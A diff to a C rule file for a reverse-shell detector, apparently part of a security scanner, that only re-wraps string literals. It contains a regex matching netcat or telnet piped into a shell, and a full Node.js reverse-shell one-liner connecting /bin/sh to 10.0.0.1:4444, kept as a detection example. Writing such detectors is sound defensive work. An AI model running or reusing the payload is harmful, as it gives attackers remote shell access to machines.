@@ -265,7 +265,8 @@ static const struct rule_pattern reverse_shell[] = {
 	{
 		.id = "netcat_pipe",
 		.regex = L BIN "(?:nc|ncat|netcat|telnet)" S1
-		    "[^\\r\\n|;]{3,120}" PIPE SHELL R "(?!\\s{0,4}\\|" S0 "(?:[\\r\\n]|\\\\n|$))",
+		    "[^\\r\\n|;]{3,120}" PIPE SHELL R "(?!\\s{0,4}\\|" S0
+		    "(?:[\\r\\n]|\\\\n|$))",
 		.literals = { "nc", "netcat", "telnet" },
 		.width = 320,
 		.lead = 32,
@@ -304,7 +305,8 @@ static const struct rule_pattern reverse_shell[] = {
 		.kind = RULE_COMMAND,
 		.source = "Node.js: child_process, net",
 		.examples = LIST("(function(){var net=require('net'),cp="
-		    "require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new "
+		    "require('child_process'),sh=cp.spawn('/bin/sh',[]);"
+		    "var c=new "
 		    "net.Socket();c.connect(4444,'10.0.0.1',function(){"
 		    "c.pipe(sh.stdin);sh.stdout.pipe(c);});})();"),
 		.counters = LIST("const { spawn } = require('child_process')",
